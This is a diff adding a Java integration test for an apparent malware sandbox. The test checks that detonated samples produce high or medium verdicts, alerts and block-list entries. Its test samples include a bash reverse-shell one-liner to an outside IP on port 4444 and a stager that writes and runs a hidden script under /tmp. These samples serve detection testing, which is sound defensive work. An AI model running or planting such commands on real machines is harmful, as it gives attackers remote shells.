@@ -1,0 +1,62 @@
+package dev.kiroku.it;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.concurrent.TimeUnit;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+/**
+ * The sandbox in the real server with the real agent recording the machine (as {@code ./kiroku demo}
+ * runs it): samples submitted over REST are detonated and recorded by that agent (no second agent),
+ * a high verdict puts the hash on the fleet block list and raises an alert, a medium verdict raises
+ * an alert and blocks nothing. Needs root.
+ */
+@Timeout(value = 15, unit = TimeUnit.MINUTES)
+class SandboxLoopTest {
+    @TempDir
+    Path dir;
+
+    @Test
+    void verdictsReachTheBlockListAndTheAnalyst() throws Exception {
+        try (RecordingMachine machine = new RecordingMachine(dir.resolve("data"), Files.createDirectories(dir.resolve("watched")))) {
+            Api api = machine.api;
+            JsonNode high = analyse(api, "revshell.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n");
+            assertThat(high.path("verdict").asText()).as(high.toString()).isEqualToIgnoringCase("high");
+            JsonNode detonation = high.path("detonation");
+            assertThat(detonation.path("recording").asText()).startsWith("the kiroku agent already recording this machine")
+                    .doesNotContain("did not arrive");
+            assertThat(detonation.path("processes").toString()).contains("bash -i");
+            assertThat(detonation.path("connections").toString()).contains("\"seenBy\":\"sensor\"").contains("203.0.113.66");
+            String highHash = high.path("sha256").asText();
+
+            JsonNode medium = analyse(api, "stager.sh", "#!/bin/sh\nmkdir -p /tmp/.c\nprintf '#!/bin/sh\\nid\\n' > /tmp/.c/s2\n"
+                    + "chmod +x /tmp/.c/s2\n/tmp/.c/s2\n");
+            assertThat(medium.path("verdict").asText()).as(medium.toString()).isEqualToIgnoringCase("medium");
+            String mediumHash = medium.path("sha256").asText();
+
+            await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
+                assertThat(api.get("/api/v1/alerts?rule=sandbox-verdict-high").toString()).contains(highHash);
+                assertThat(api.get("/api/v1/alerts?rule=sandbox-verdict-medium").toString()).contains(mediumHash);
+            });
+            String blocked = api.get("/api/v1/blocklist").toString();
+            assertThat(blocked).contains(highHash).contains("sandbox verdict high").doesNotContain(mediumHash);
+        }
+    }
+
+    /** Submits over REST and waits for the report. */
+    private static JsonNode analyse(Api api, String name, String content) {
+        JsonNode submitted = api.post("/api/v1/sandbox/samples?name=" + name + "&time_limit=5", content);
+        String sha256 = submitted.path("sha256").asText();
+        await().atMost(Duration.ofMinutes(4)).pollInterval(Duration.ofSeconds(1))
+                .until(() -> api.get("/api/v1/sandbox/samples/" + sha256).path("state").asText().equals("DONE"));
+        return api.get("/api/v1/sandbox/reports/" + sha256);
+    }
+}
